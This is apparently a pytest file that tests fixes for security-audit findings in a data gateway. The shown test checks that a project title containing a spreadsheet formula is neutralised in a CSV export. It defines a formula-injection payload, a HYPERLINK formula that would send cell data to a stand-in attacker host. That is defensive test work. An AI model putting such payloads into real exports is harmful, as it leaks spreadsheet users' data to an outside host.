"""Issue 15, findings 7-12: accountable decisions. Each test reproduces the attack first, then pins the fix.

7 every download and every refused object access is in the audit log; 8 no CSV the gateway writes carries a
formula; 9 out-of-range dates are field errors, never a 500; 10 a reviewer who has not voted sees no count;
11 somebody else's object answers exactly like a missing one; 12 high-impact actions need a confirmation and a
reason, and a high-risk extract a second person.
"""

from __future__ import annotations

import csv
import io

from flask.testing import FlaskClient
from sqlalchemy.orm import Session, sessionmaker

from gateway.db import unit_of_work
from tests.support import factories as f

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full data")'


# --- 8: formula injection ----------------------------------------------------------------------------------------

def test_a_formula_in_a_project_title_is_neutralised_in_the_register_csv(
        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    with unit_of_work(session_factory) as s:
        f.accredit(s, "researcher")
    f.approved_project(session_factory, title=FORMULA_TITLE)
    rows = list(csv.DictReader(io.StringIO(client.get("/register.csv").get_data(as_text=True))))
    assert [r["Project Title"] for r in rows] == ["'" + FORMULA_TITLE]
    # the JSON and the page are not spreadsheets: they carry the title as written
    assert [r["Project Title"] for r in client.get("/register.json").json] == [FORMULA_TITLE]
